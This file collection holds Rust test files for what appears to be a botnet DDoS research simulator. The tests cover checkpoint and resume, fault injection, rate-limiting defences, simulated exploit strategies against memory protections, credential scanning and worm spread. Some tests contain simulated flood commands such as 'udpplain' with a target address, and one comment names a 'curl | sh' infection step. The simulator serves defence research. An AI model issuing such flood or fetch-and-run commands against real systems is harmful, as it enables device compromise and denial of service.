    let (_, events) = members
        .iter_mut()
        .find(|(k, _)| k == "events")
        .expect("events array");
    let djson::Json::Arr(list) = events else {
        panic!("events is not an array")
    };
    list.retain(|e| {
        e.get("seq")
            .and_then(djson::Json::as_u64)
            .is_some_and(|seq| seq >= cp.events_recorded)
    });
    doc.to_string_compact()
}

fn assert_resume_equals_straight_through(builder: SimulationBuilder) {
    let (straight, cp) = run_with_checkpoint(builder, CHECKPOINT_AT);
    assert!(cp.events_recorded > 0, "nothing recorded before the snapshot");
    let expected = suffix(&straight, &cp);
    let (resumed, _) = run_resumed(cp, None);
    assert_eq!(
        expected, resumed,
        "resumed trace differs from the straight-through run's suffix"
    );
    // And the events the resumed run did record are genuinely post-T.
    assert_ne!(expected, straight, "suffix filtered nothing");
}

#[test]
fn star_resume_is_byte_identical_from_the_snapshot_on() {
    assert_resume_equals_straight_through(base(42, TopologyKind::Star));
}

#[test]
fn wifi_resume_is_byte_identical_from_the_snapshot_on() {
    assert_resume_equals_straight_through(base(42, TopologyKind::Wifi));
}

#[test]
fn tiered_resume_is_byte_identical_from_the_snapshot_on() {
    assert_resume_equals_straight_through(base(
        42,
        TopologyKind::Tiered {
            regions: 3,
            region_uplink_bps: 10_000_000,
        },
    ));
}

#[test]
fn fault_plan_resume_is_byte_identical_from_the_snapshot_on() {
    let plan = r#"{"schema":"ddosim.faults.plan/1","seed":9,"faults":[
        {"at_secs":10,"kind":"link_down","node":"dev-3"},
        {"at_secs":20,"kind":"link_up","node":"dev-3"},
        {"at_secs":28,"kind":"node_crash","node":"dev-5"},
        {"at_secs":35,"kind":"node_restore","node":"dev-5"}]}"#;
    let plan = ddosim::FaultPlan::parse_str(plan).expect("valid plan");
    assert_resume_equals_straight_through(base(42, TopologyKind::Star).faults(plan));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4))]

    /// save → restore → save at the same instant is byte-stable: the
    /// re-saved checkpoint renders identically to the original (verify
    /// runs before save, so the spliced recorder count and the digests
    /// match exactly).
    #[test]
    fn save_restore_save_is_byte_stable(seed in 0u64..1000, at_secs in 26u64..40) {
        let at = Duration::from_secs(at_secs);
        let (_, cp) = run_with_checkpoint(base(seed, TopologyKind::Star), at);
        let original = cp.to_string_pretty();
        let (_, resaved) = run_resumed(cp, Some(at));
        let resaved = resaved.expect("re-checkpoint was armed").to_string_pretty();
        prop_assert_eq!(original, resaved);
    }
}

#[test]
fn corrupted_checkpoint_fails_with_a_clear_error() {
    let (_, cp) = run_with_checkpoint(base(42, TopologyKind::Star), CHECKPOINT_AT);
    let text = cp.to_string_pretty();

    // Truncated file (half the bytes): parse error, not a panic.
    let truncated = &text[..text.len() / 2];
    let err = Checkpoint::parse(truncated).expect_err("truncated input accepted");
    assert!(err.contains("JSON"), "unhelpful truncation error: {err}");

    // Arbitrary corruption of the schema tag.
    let wrong_schema = text.replace("ddosim.checkpoint/1", "ddosim.checkpoint/9");
    let err = Checkpoint::parse(&wrong_schema).expect_err("wrong schema accepted");
    assert!(err.contains("schema"), "unhelpful schema error: {err}");

    // A renamed field: the strict parser reports the unknown name (and a
    // field deleted outright is reported as missing — either way the
    // message points at the offending key).
    let no_count = text.replace("\"events_recorded\"", "\"events\"");
    let err = Checkpoint::parse(&no_count).expect_err("renamed field accepted");
    assert!(err.contains("events"), "unhelpful field error: {err}");

    // Not JSON at all.
    let err = Checkpoint::parse("not json").expect_err("garbage accepted");
    assert!(err.contains("JSON"), "unhelpful garbage error: {err}");
}

#[test]
fn tampered_digest_is_rejected_naming_the_layer() {
    let (_, mut cp) = run_with_checkpoint(base(42, TopologyKind::Star), CHECKPOINT_AT);
    let tcp = cp
        .digests
        .iter_mut()
        .find(|(layer, _)| layer == "netsim.tcp")
        .expect("tcp layer digested");
    tcp.1 ^= 1;
    let instance = SimulationBuilder::new()
        .resume_from(cp)
        .build()
        .expect("config itself is valid");
    let err = instance
        .try_run_to_completion()
        .expect_err("tampered digest accepted");
    assert!(
        err.contains("netsim.tcp"),
        "divergence error does not name the layer: {err}"
    );
}

#[test]
fn checkpoint_before_the_resume_point_is_rejected() {
    let (_, cp) = run_with_checkpoint(base(42, TopologyKind::Star), CHECKPOINT_AT);
    let instance = SimulationBuilder::new()
        .resume_from(cp)
        .checkpoint_at(Duration::from_secs(10))
        .build()
        .expect("config itself is valid");
    let err = instance
        .try_run_to_completion()
        .expect_err("pre-resume checkpoint accepted");
    assert!(
        err.contains("resume"),
        "error does not explain the ordering constraint: {err}"
    );
}
