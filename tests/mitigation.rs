//! Defense deployment end-to-end: the paper's use case of implementing and
//! evaluating defense strategies *inside* the simulation (§I, §V-A).

use analysis::RateLimiter;
use ddosim::{AttackSpec, SimulationBuilder};
use std::time::Duration;

fn scenario() -> ddosim::Ddosim {
    SimulationBuilder::new()
        .devs(15)
        .attack(AttackSpec::udp_plain(Duration::from_secs(30)))
        .attack_at(Duration::from_secs(30))
        .sim_time(Duration::from_secs(80))
        .attack_ramp(Duration::from_secs(3))
        .seed(21)
        .build()
        .expect("valid configuration")
}

#[test]
fn rate_limiter_at_the_upstream_router_mitigates_the_flood() {
    // Baseline: no defense.
    let undefended = scenario().run_to_completion();

    // Defended: per-source 64 kbps token bucket at the fabric router,
    // deployed reactively just before the attack window (deploying from
    // t=0 would throttle the attacker's file server too — it turns out a
    // per-source limiter blocks the infection chain's 121 kB downloads,
    // itself a defense result this framework can surface).
    let mut defended = scenario();
    let fabric = defended.fabric_node();
    defended.sim_mut().schedule_call(
        netsim::SimTime::from_secs(29),
        move |sim| sim.set_ingress_filter(fabric, RateLimiter::default().into_filter()),
    );
    let defended = defended.run_to_completion();

    assert_eq!(defended.infected, undefended.infected, "recruitment unaffected");
    assert!(
        defended.avg_received_data_rate_kbps < undefended.avg_received_data_rate_kbps * 0.5,
        "defense at least halves the attack: {:.0} vs {:.0} kbps",
        defended.avg_received_data_rate_kbps,
        undefended.avg_received_data_rate_kbps
    );
    // Aggregate allowance: 15 sources × 64 kbps plus burst headroom.
    assert!(
        defended.avg_received_data_rate_kbps < 15.0 * 64.0 * 1.5,
        "defended magnitude respects the per-source budget: {:.0} kbps",
        defended.avg_received_data_rate_kbps
    );
}

#[test]
fn filter_drops_are_accounted() {
    let mut defended = scenario();
    let fabric = defended.fabric_node();
    defended.sim_mut().schedule_call(netsim::SimTime::from_secs(29), move |sim| {
        sim.set_ingress_filter(
            fabric,
            RateLimiter {
                rate_bps: 32_000,
                burst_bytes: 8 * 1024,
            }
            .into_filter(),
        );
    });
    defended.run_until(Duration::from_secs(62));
    let filtered = defended.sim_mut().stats().dropped_filtered;
    assert!(filtered > 1000, "flood packets must be filtered, got {filtered}");
}

#[test]
fn clearing_the_filter_restores_traffic() {
    let mut instance = scenario();
    let fabric = instance.fabric_node();
    instance.sim_mut().set_ingress_filter(
        fabric,
        Box::new(|_pkt, _now| netsim::FilterVerdict::Drop),
    );
    instance.run_until(Duration::from_secs(5));
    // Under drop-all even the exploit exchange is blocked.
    assert_eq!(instance.infected_count(), 0);
    instance.sim_mut().clear_ingress_filter(fabric);
    instance.run_until(Duration::from_secs(25));
    assert_eq!(instance.infected_count(), 15, "infection resumes once the filter lifts");
}
