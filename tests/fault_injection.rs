//! Fault-injection integration tests: the C&C-outage smoke scenario
//! (flood drops, bots re-register, a later command floods again), link
//! flaps degrading the flood, crash semantics, and the determinism
//! contract with and without a plan.

use ddosim::{
    AttackSpec, FaultEvent, FaultKind, FaultPlan, SimulationBuilder, TelemetryConfig,
};
use std::time::Duration;

fn recording() -> TelemetryConfig {
    TelemetryConfig { record: true, ..TelemetryConfig::default() }
}

/// The shared small scenario: 6 Devs, attack commanded at 20 s for 12 s.
fn base(sim_secs: u64) -> SimulationBuilder {
    SimulationBuilder::new()
        .devs(6)
        .attack(AttackSpec::udp_plain(Duration::from_secs(12)))
        .attack_at(Duration::from_secs(20))
        .sim_time(Duration::from_secs(sim_secs))
        .attack_ramp(Duration::from_secs(2))
        .seed(42)
}

fn fault(at_secs: u64, kind: FaultKind) -> FaultEvent {
    FaultEvent { at: Duration::from_secs(at_secs), kind }
}

/// Count of flight-recorder events with the given category.
fn category_count(doc: &djson::Json, cat: &str) -> usize {
    doc.get("events")
        .and_then(|e| e.as_array())
        .expect("events array")
        .iter()
        .filter(|e| e.get("cat").and_then(djson::Json::as_str) == Some(cat))
        .count()
}

/// The PR's smoke scenario: the C&C host goes dark mid-run, a command
/// issued during the outage cannot raise a flood, and after the restart
/// the bots re-register so a later command floods again.
#[test]
fn cnc_outage_drops_the_flood_and_recovery_restores_it() {
    // A probe instance tells us TServer's address for the admin script.
    let tserver_v4 = base(135).build().expect("valid").tserver().1;

    let plan = FaultPlan {
        seed: 0,
        faults: vec![fault(
            40,
            FaultKind::CncOutage { duration: Some(Duration::from_secs(20)) },
        )],
    };
    let instance = base(135)
        // Issued mid-outage: the console must queue and retry it, but the
        // restarted C&C has no live bot connections yet, so no flood.
        .admin_command(Duration::from_secs(45), format!("udpplain {tserver_v4} 80 12"))
        // Issued well after recovery: bots have re-registered by now.
        .admin_command(Duration::from_secs(110), format!("udpplain {tserver_v4} 80 12"))
        .faults(plan)
        .telemetry(recording())
        .build()
        .expect("valid");
    let tele = instance.telemetry().clone();
    let result = instance.run_to_completion();

    let window = |from: usize, to: usize| -> f64 {
        result.per_second_kbits[from..to.min(result.per_second_kbits.len())]
            .iter()
            .sum()
    };
    let first_attack = window(20, 32);
    assert!(first_attack > 100.0, "first flood never arrived: {first_attack} kbit");
    let outage = window(42, 58);
    assert!(
        outage < 1.0,
        "TServer received {outage} kbit while the C&C was down and no flood was commanded"
    );
    let recovered = window(110, 122);
    assert!(
        recovered > first_attack * 0.3,
        "flood did not recover after the outage: {recovered} vs {first_attack} kbit"
    );
    assert!(
        result.total_registrations > result.infected as u64,
        "no bot re-registered after the outage ({} registrations, {} infected)",
        result.total_registrations,
        result.infected
    );

    let doc = tele.recorder_json().expect("recording");
    assert!(
        category_count(&doc, "fault") >= 2,
        "outage start and end must both land in the flight recorder"
    );
    assert!(category_count(&doc, "node_admin") >= 2, "attacker down/up missing");
}

/// Flapping half the access links during the attack window loses flood
/// traffic; the run must finish and receive strictly less than baseline.
#[test]
fn link_flaps_degrade_the_flood() {
    let baseline = base(45).run().expect("valid");
    let plan = FaultPlan {
        seed: 0,
        faults: vec![
            fault(22, FaultKind::LinkDown { node: "dev-0".into() }),
            fault(22, FaultKind::LinkDown { node: "dev-1".into() }),
            fault(22, FaultKind::LinkDown { node: "dev-2".into() }),
            fault(30, FaultKind::LinkUp { node: "dev-0".into() }),
            fault(30, FaultKind::LinkUp { node: "dev-1".into() }),
            fault(30, FaultKind::LinkUp { node: "dev-2".into() }),
        ],
    };
    let instance = base(45).faults(plan).telemetry(recording()).build().expect("valid");
    let tele = instance.telemetry().clone();
    let flapped = instance.run_to_completion();
    assert!(
        flapped.flood_bytes_received < baseline.flood_bytes_received,
        "cutting 3 of 6 access links mid-attack must lose flood bytes \
         ({} vs baseline {})",
        flapped.flood_bytes_received,
        baseline.flood_bytes_received
    );
    let doc = tele.recorder_json().expect("recording");
    assert_eq!(category_count(&doc, "fault"), 6);
    assert!(category_count(&doc, "link_admin") >= 6);
}

/// A hard crash kills the resident bot and takes the node dark with no
/// scheduled recovery; a container kill leaves the node up.
#[test]
fn crash_and_container_kill_semantics() {
    let plan = FaultPlan {
        seed: 0,
        faults: vec![
            fault(29, FaultKind::NodeCrash { node: "dev-0".into() }),
            fault(29, FaultKind::ContainerKill { node: "dev-1".into() }),
        ],
    };
    let mut instance = base(90).faults(plan).build().expect("valid");
    let dev_nodes: Vec<_> = instance.devs().iter().map(|d| d.node).collect();
    instance.run_until(Duration::from_secs(28));
    assert_eq!(instance.connected_bots(), 6, "all Devs recruited before the crash");
    instance.run_until(Duration::from_secs(30));
    let bot_alive = |inst: &ddosim::Ddosim, i: usize| {
        inst.runtime()
            .containers()
            .iter()
            .find(|c| c.node() == dev_nodes[i])
            .expect("each Dev has a container")
            .bot_alive()
    };
    assert!(!bot_alive(&instance, 0), "crash must kill the resident bot");
    assert!(!bot_alive(&instance, 1), "container kill must kill the resident bot");
    // dev-1's node stays up, so the attacker may legitimately re-exploit
    // it later; dev-0's node is dark with no restore scheduled, so it
    // must stay dead. The C&C only learns of the silent death once its
    // sweep ping's retransmissions exhaust (sweep at 60 s + ~12 s of RTOs).
    instance.run_until(Duration::from_secs(80));
    assert!(!bot_alive(&instance, 0), "a crashed node cannot be re-infected");
    assert!(
        instance.connected_bots() < 6,
        "the C&C must lose the crashed bot's connection"
    );
}

/// Unknown or impossible targets fail at build time, not mid-run.
#[test]
fn bad_plans_fail_at_build_time() {
    let unknown = FaultPlan {
        seed: 0,
        faults: vec![fault(5, FaultKind::LinkDown { node: "dev-99".into() })],
    };
    let err = base(45).faults(unknown).build().expect_err("dev-99 does not exist");
    assert!(err.contains("unknown node"), "got: {err}");

    let no_container = FaultPlan {
        seed: 0,
        faults: vec![fault(5, FaultKind::ContainerKill { node: "tserver".into() })],
    };
    let err = base(45).faults(no_container).build().expect_err("tserver has no container");
    assert!(err.contains("no container"), "got: {err}");

    let bad_probability = FaultPlan {
        seed: 0,
        faults: vec![fault(5, FaultKind::LinkLoss { node: "dev-0".into(), probability: 2.0 })],
    };
    let err = base(45).faults(bad_probability).build().expect_err("p > 1 is invalid");
    assert!(err.contains("outside [0, 1]"), "got: {err}");
}

fn recorder_doc(builder: SimulationBuilder) -> String {
    let instance = builder.telemetry(recording()).build().expect("valid");
    let tele = instance.telemetry().clone();
    instance.run_to_completion();
    tele.recorder_json().expect("recording").to_string_compact()
}

/// Same seed + same plan ⇒ byte-identical telemetry.
#[test]
fn faulted_runs_are_deterministic()  {
    let plan = || FaultPlan {
        seed: 3,
        faults: vec![
            fault(22, FaultKind::LinkLoss { node: "dev-0".into(), probability: 0.3 }),
            fault(25, FaultKind::CncOutage { duration: Some(Duration::from_secs(5)) }),
            fault(33, FaultKind::NodeCrash { node: "dev-2".into() }),
        ],
    };
    let a = recorder_doc(base(45).faults(plan()));
    let b = recorder_doc(base(45).faults(plan()));
    assert_eq!(a, b, "same seed + same plan must be byte-identical");
}

/// A plan with no faults is a strict no-op — even with a nonzero plan
/// seed, the trace matches a run with no plan at all.
#[test]
fn empty_plan_is_a_noop() {
    let without = recorder_doc(base(45));
    let with_empty = recorder_doc(base(45).faults(FaultPlan { seed: 99, faults: vec![] }));
    assert_eq!(
        telemetry::diff_strs(&without, &with_empty),
        Ok(None),
        "an empty fault plan must not perturb the trace"
    );
}

