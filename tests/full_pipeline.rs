//! Cross-crate integration tests: full botnet scenarios exercising every
//! subsystem together (netsim + tinyvm + firmware + malware + attacker +
//! churn + core).

use churn::ChurnMode;
use ddosim::{AttackSpec, BinaryMix, ExploitStrategy, Recruitment, SimulationBuilder};
use firmware::CommandSet;
use protocols::AttackVector;
use std::time::Duration;
use tinyvm::{ProtectionMix, Protections};

/// A compact scenario that still covers infection + attack end-to-end.
fn small() -> SimulationBuilder {
    SimulationBuilder::new()
        .devs(8)
        .attack(AttackSpec::udp_plain(Duration::from_secs(20)))
        .attack_at(Duration::from_secs(30))
        .sim_time(Duration::from_secs(60))
        .attack_ramp(Duration::from_secs(2))
        .seed(1)
}

#[test]
fn connman_only_population_is_fully_recruited() {
    let r = small()
        .binary_mix(BinaryMix::ConnmanOnly)
        .run()
        .expect("valid");
    assert_eq!(r.infected, 8, "DNS exploit path recruits every Dev");
    assert!(r.avg_received_data_rate_kbps > 100.0);
}

#[test]
fn dnsmasq_only_population_is_fully_recruited() {
    let r = small()
        .binary_mix(BinaryMix::DnsmasqOnly)
        .run()
        .expect("valid");
    assert_eq!(r.infected, 8, "DHCPv6 multicast exploit path recruits every Dev");
    assert!(r.avg_received_data_rate_kbps > 100.0);
}

#[test]
fn full_protections_still_fall_to_leak_rebase() {
    let r = small()
        .protections(ProtectionMix::Uniform(Protections::FULL))
        .run()
        .expect("valid");
    assert_eq!(r.infected, 8, "W^X+ASLR devices fall to the two-stage exploit (R2)");
}

#[test]
fn static_chains_fail_on_aslr_only_population() {
    let r = small()
        .protections(ProtectionMix::Uniform(Protections::ASLR))
        .strategy(ExploitStrategy::StaticChain)
        .run()
        .expect("valid");
    assert_eq!(r.infected, 0, "static ROP chains crash ASLR'd daemons");
    assert_eq!(r.avg_received_data_rate_kbps, 0.0, "no bots, no attack");
}

#[test]
fn code_injection_fails_against_wx() {
    let r = small()
        .protections(ProtectionMix::Uniform(Protections::WX))
        .strategy(ExploitStrategy::CodeInjection)
        .run()
        .expect("valid");
    assert_eq!(r.infected, 0, "W^X blocks stack shellcode");
}

#[test]
fn removing_curl_blocks_the_infection_chain() {
    let r = small()
        .commands(CommandSet::without(&["curl"]))
        .run()
        .expect("valid");
    assert_eq!(r.infected, 0, "stage-1 `curl | sh` cannot run");
    assert_eq!(r.flood_packets_received, 0);
}

#[test]
fn syn_flood_vector_reaches_tserver() {
    let r = small()
        .attack(AttackSpec {
            vector: AttackVector::Syn,
            duration: Duration::from_secs(20),
            payload_bytes: None,
            port: 80,
        })
        .run()
        .expect("valid");
    assert_eq!(r.infected, 8);
    // SYN floods carry no payload; magnitude comes from 40-byte segments.
    // They ride TCP, so the sink's UDP flood-marker counter stays at zero —
    // TServer's node counters (which feed Eq. 2) still see them, exactly as
    // a Wireshark capture would.
    assert!(r.avg_received_data_rate_kbps > 10.0, "got {}", r.avg_received_data_rate_kbps);
    assert_eq!(r.flood_packets_received, 0, "marker counter is UDP-only");
    let during: f64 = r.per_second_kbits[31..49].iter().sum();
    assert!(during > 100.0, "SYN segments must reach TServer: {during:.1} kbits");
}

#[test]
fn custom_payload_size_changes_packet_count_not_rate() {
    // Bots pace floods by wire rate (they saturate their uplinks), so a
    // smaller payload means *more packets* at a similar byte rate — the
    // same trade-off the Mirai `len` flag exposes.
    let big = small().run().expect("valid");
    let tiny = small()
        .attack(AttackSpec {
            vector: AttackVector::UdpPlain,
            duration: Duration::from_secs(20),
            payload_bytes: Some(64),
            port: 80,
        })
        .run()
        .expect("valid");
    assert_eq!(tiny.infected, 8);
    assert!(
        tiny.flood_packets_received > big.flood_packets_received * 3,
        "64-byte floods send far more packets: {} vs {}",
        tiny.flood_packets_received,
        big.flood_packets_received
    );
    let ratio = tiny.avg_received_data_rate_kbps / big.avg_received_data_rate_kbps;
    assert!(
        (0.5..=1.5).contains(&ratio),
        "wire rates stay comparable, ratio {ratio:.2}"
    );
}

#[test]
fn credential_scanner_recruits_only_default_cred_devices() {
    let r = small()
        .devs(10)
        .recruitment(Recruitment::CredentialScanner {
            default_credential_fraction: 0.5,
        })
        .sim_time(Duration::from_secs(60))
        .run()
        .expect("valid");
    let successes = r.scanner_successes.expect("scanner ran");
    assert!(successes < 10, "hardened devices resist the dictionary");
    assert_eq!(r.infected, successes, "recruited = scanner successes");
    assert!(r.scanner_attempts.expect("scanner ran") > 0);
}

#[test]
fn credential_scanner_with_no_default_creds_recruits_nothing() {
    let r = small()
        .recruitment(Recruitment::CredentialScanner {
            default_credential_fraction: 0.0,
        })
        .run()
        .expect("valid");
    assert_eq!(r.infected, 0);
    assert_eq!(r.scanner_successes, Some(0));
}

#[test]
fn dynamic_churn_registers_departures_and_rejoins() {
    let r = small()
        .devs(30)
        .churn(ChurnMode::Dynamic)
        .sim_time(Duration::from_secs(120))
        .attack_at(Duration::from_secs(60))
        .run()
        .expect("valid");
    let churn = r.churn_summary.expect("churn enabled");
    assert!(churn.departures > 0, "30 devices over 6 epochs must lose some");
    assert!(r.infected > 20, "most devices still recruited");
}

#[test]
fn attack_window_is_where_the_traffic_is() {
    let r = small().run().expect("valid");
    // Received rate before the attack command is negligible (control
    // traffic only); during the window it is orders of magnitude higher.
    let pre: f64 = r.per_second_kbits[..30].iter().sum::<f64>() / 30.0;
    let during: f64 = r.per_second_kbits[30..50].iter().sum::<f64>() / 20.0;
    assert!(
        during > pre * 50.0,
        "pre-attack {pre:.2} kbps vs attack {during:.2} kbps"
    );
}

#[test]
fn flood_stops_after_duration() {
    let r = small().run().expect("valid");
    // Commanded window is [30, 50); by t=55 the flood must have drained.
    let tail: f64 = r.per_second_kbits[55..].iter().sum();
    assert!(tail < 100.0, "flood persists past its duration: {tail:.1} kbits");
}

#[test]
fn builder_rejects_invalid_configs() {
    assert!(SimulationBuilder::new().devs(0).run().is_err());
    assert!(SimulationBuilder::new()
        .attack_at(Duration::from_secs(590))
        .run()
        .is_err());
}

#[test]
fn result_serializes_for_experiment_records() {
    let r = small().devs(3).run().expect("valid");
    let json = djson::ToJson::to_json(&r).to_string_compact();
    assert!(json.contains("avg_received_data_rate_kbps"));
}

#[test]
fn worm_mode_spreads_from_a_single_seed() {
    let r = SimulationBuilder::new()
        .devs(20)
        .recruitment(Recruitment::SelfPropagating {
            default_credential_fraction: 1.0,
            seeds: 1,
        })
        .attack(AttackSpec::udp_plain(Duration::from_secs(15)))
        .attack_at(Duration::from_secs(60))
        .sim_time(Duration::from_secs(90))
        .seed(17)
        .run()
        .expect("valid");
    assert_eq!(r.infected, 20, "the worm reaches every credentialed device");
    // Growth is sequential (hop by hop), unlike the attacker-parallel mode:
    // the spread takes multiple generations, visible as a spread-out curve.
    let first = r.infection_times_secs.first().copied().expect("nonempty");
    let last = r.infection_times_secs.last().copied().expect("nonempty");
    assert!(last - first > 2.0, "propagation takes generations: {first:.1}..{last:.1}");
    assert!(r.avg_received_data_rate_kbps > 500.0);
}

#[test]
fn worm_mode_respects_credential_hygiene() {
    let r = SimulationBuilder::new()
        .devs(20)
        .recruitment(Recruitment::SelfPropagating {
            default_credential_fraction: 0.5,
            seeds: 3,
        })
        .attack(AttackSpec::udp_plain(Duration::from_secs(15)))
        .attack_at(Duration::from_secs(60))
        .sim_time(Duration::from_secs(90))
        .seed(18)
        .run()
        .expect("valid");
    assert!(
        r.infected < 20,
        "hardened devices resist the worm: {}/20",
        r.infected
    );
}

#[test]
fn worm_mode_validates_seed_count() {
    assert!(SimulationBuilder::new()
        .devs(5)
        .recruitment(Recruitment::SelfPropagating {
            default_credential_fraction: 1.0,
            seeds: 0,
        })
        .run()
        .is_err());
    assert!(SimulationBuilder::new()
        .devs(5)
        .recruitment(Recruitment::SelfPropagating {
            default_credential_fraction: 1.0,
            seeds: 6,
        })
        .run()
        .is_err());
}

#[test]
fn ipv6_attack_target_works() {
    let r = small().devs(6).attack_over_ipv6(true).run().expect("valid");
    assert_eq!(r.infected, 6);
    assert!(
        r.avg_received_data_rate_kbps > 100.0,
        "IPv6 flood reaches TServer: {:.1} kbps",
        r.avg_received_data_rate_kbps
    );
}

#[test]
fn stack_canaries_defeat_even_leak_rebase() {
    // The hardening extension: canaried firmware survives the paper's
    // strongest exploit — the daemons crash-loop instead of being
    // recruited, and the attack never materializes.
    let r = small()
        .protections(ProtectionMix::Uniform(Protections::HARDENED))
        .run()
        .expect("valid");
    assert_eq!(r.infected, 0, "stack smashing detected on every attempt");
    assert_eq!(r.flood_packets_received, 0);
}

#[test]
fn reboots_clear_bots_and_the_attacker_re_recruits() {
    // High reboot churn: Mirai does not persist, so every reboot knocks a
    // bot out; the attacker's reconciler re-exploits the fresh daemon —
    // the recovered→susceptible loop of the SEIRS models the paper cites.
    let mut instance = SimulationBuilder::new()
        .devs(10)
        .reboot_rate_per_min(1.0)
        .attack(AttackSpec::udp_plain(Duration::from_secs(10)))
        .attack_at(Duration::from_secs(160))
        .sim_time(Duration::from_secs(180))
        .seed(23)
        .build()
        .expect("valid");
    instance.run_until(Duration::from_secs(150));
    let total_reboots: u32 = instance
        .devs()
        .iter()
        .map(|d| d.container.state().reboot_count)
        .sum();
    let total_infections: u32 = instance
        .devs()
        .iter()
        .map(|d| d.container.state().infection_count)
        .sum();
    let alive = instance.devs().iter().filter(|d| d.container.bot_alive()).count();
    assert!(total_reboots > 5, "reboots happen: {total_reboots}");
    assert!(
        total_infections > 10,
        "devices are re-infected after reboots: {total_infections} infections"
    );
    // Each re-infection costs ~10-20 s (reconcile, exploit, download,
    // register), so with ~1 reboot/min the endemic level sits well above
    // zero but below 100%.
    assert!(alive >= 5, "endemic equilibrium keeps most bots alive: {alive}/10");
    // Reboots wiped the bot processes they hit.
    let rebooted_dev = instance
        .devs()
        .iter()
        .find(|d| d.container.state().reboot_count > 0)
        .expect("some device rebooted");
    assert!(rebooted_dev
        .container
        .state()
        .events
        .iter()
        .any(|e| matches!(e, firmware::ContainerEvent::Rebooted { .. })));
}

#[test]
fn without_reboots_each_device_is_infected_exactly_once() {
    let mut instance = SimulationBuilder::new()
        .devs(8)
        .attack(AttackSpec::udp_plain(Duration::from_secs(10)))
        .attack_at(Duration::from_secs(60))
        .sim_time(Duration::from_secs(80))
        .seed(24)
        .build()
        .expect("valid");
    instance.run_until(Duration::from_secs(50));
    for dev in instance.devs() {
        assert_eq!(dev.container.state().infection_count, 1);
        assert_eq!(dev.container.state().reboot_count, 0);
    }
}

#[test]
fn tiered_topology_works_end_to_end_and_regional_uplinks_congest() {
    use ddosim::TopologyKind;
    // 12 Devs over 3 regions with tight 1 Mbps uplinks vs the flat star:
    // recruitment still succeeds, but regional congestion caps the flood.
    let tiered = small()
        .devs(12)
        .topology(TopologyKind::Tiered {
            regions: 3,
            region_uplink_bps: 1_000_000,
        })
        .run()
        .expect("valid");
    let star = small().devs(12).run().expect("valid");
    assert_eq!(tiered.infected, 12, "exploit paths work through two tiers");
    assert!(
        tiered.avg_received_data_rate_kbps < star.avg_received_data_rate_kbps * 0.95,
        "regional uplinks (3 Mbps aggregate) must cap the flood below the \
         flat star: {:.0} vs {:.0} kbps",
        tiered.avg_received_data_rate_kbps,
        star.avg_received_data_rate_kbps
    );
    assert!(
        tiered.avg_received_data_rate_kbps > 1500.0,
        "~3 Mbps of aggregate uplink still delivers: {:.0} kbps",
        tiered.avg_received_data_rate_kbps
    );
}

#[test]
fn tiered_topology_validation() {
    use ddosim::TopologyKind;
    assert!(SimulationBuilder::new()
        .topology(TopologyKind::Tiered { regions: 0, region_uplink_bps: 1 })
        .run()
        .is_err());
    assert!(SimulationBuilder::new()
        .topology(TopologyKind::Tiered { regions: 2, region_uplink_bps: 0 })
        .run()
        .is_err());
}

#[test]
fn admin_script_supports_early_stop() {
    // Issue the 20 s attack at t=30 but stop it at t=38: roughly half the
    // traffic of the uninterrupted run arrives.
    let full = small().run().expect("valid");
    let stopped = small()
        .admin_command(Duration::from_secs(38), "stop")
        .run()
        .expect("valid");
    assert!(
        stopped.avg_received_data_rate_kbps < full.avg_received_data_rate_kbps * 0.7,
        "early stop cuts the average: {:.0} vs {:.0} kbps",
        stopped.avg_received_data_rate_kbps,
        full.avg_received_data_rate_kbps
    );
    assert!(stopped.avg_received_data_rate_kbps > 0.0);
}
