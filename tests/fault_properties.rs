//! Property tests for the fault-injection layer: randomized plans stay
//! deterministic (including through a JSON round-trip of the plan), fault
//! times landing exactly on calendar-queue bucket boundaries cause no
//! ordering violations, and rising link-loss probability monotonically
//! degrades the received flood.

use ddosim::{
    AttackSpec, FaultEvent, FaultKind, FaultPlan, SimulationBuilder, TelemetryConfig,
};
use netsim::equeue::BUCKET_SPAN_NANOS;
use proptest::prelude::*;
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use std::time::Duration;

const HORIZON_NANOS: u64 = 40_000_000_000;

/// A small scenario: 3 Devs, attack commanded at 12 s for 15 s, 40 s horizon.
fn scenario() -> SimulationBuilder {
    SimulationBuilder::new()
        .devs(3)
        .attack(AttackSpec::udp_plain(Duration::from_secs(15)))
        .attack_at(Duration::from_secs(12))
        .sim_time(Duration::from_secs(40))
        .attack_ramp(Duration::from_secs(2))
        .seed(7)
}

fn random_fault(rng: &mut SmallRng, at: Duration) -> FaultEvent {
    let dev = format!("dev-{}", rng.gen_range(0..3));
    let kind = match rng.gen_range(0..7u32) {
        0 => FaultKind::LinkDown { node: dev },
        1 => FaultKind::LinkUp { node: dev },
        2 => FaultKind::LinkLoss { node: dev, probability: rng.gen_range(0.0..=1.0) },
        3 => FaultKind::NodeCrash { node: dev },
        4 => FaultKind::NodeRestore { node: dev },
        5 => FaultKind::CncOutage {
            duration: Some(Duration::from_secs(rng.gen_range(1..8))),
        },
        _ => FaultKind::ContainerKill { node: dev },
    };
    FaultEvent { at, kind }
}

/// Derives a 1–4 fault plan from `seed`; `bucket_aligned` pins every fault
/// time to an exact calendar-queue bucket boundary.
fn random_plan(seed: u64, bucket_aligned: bool) -> FaultPlan {
    let mut rng = SmallRng::seed_from_u64(seed);
    let n = rng.gen_range(1..5);
    let faults = (0..n)
        .map(|_| {
            let at_nanos = if bucket_aligned {
                rng.gen_range(0..HORIZON_NANOS / BUCKET_SPAN_NANOS) * BUCKET_SPAN_NANOS
            } else {
                rng.gen_range(0..HORIZON_NANOS)
            };
            random_fault(&mut rng, Duration::from_nanos(at_nanos))
        })
        .collect();
    FaultPlan { seed, faults }
}

fn recorder_doc(plan: FaultPlan) -> djson::Json {
    let instance = scenario()
        .faults(plan)
        .telemetry(TelemetryConfig { record: true, ..TelemetryConfig::default() })
        .build()
        .expect("valid scenario");
    let tele = instance.telemetry().clone();
    instance.run_to_completion();
    tele.recorder_json().expect("recording")
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4))]

    /// Same seed + same plan ⇒ byte-identical traces, even when one side
    /// got its plan through serialize → parse.
    #[test]
    fn random_plans_are_deterministic(plan_seed in any::<u64>()) {
        let plan = random_plan(plan_seed, false);
        let round_tripped =
            FaultPlan::parse_str(&plan.to_doc()).expect("a generated plan round-trips");
        let a = recorder_doc(plan).to_string_compact();
        let b = recorder_doc(round_tripped).to_string_compact();
        prop_assert_eq!(a, b, "plan JSON round-trip changed the run");
    }

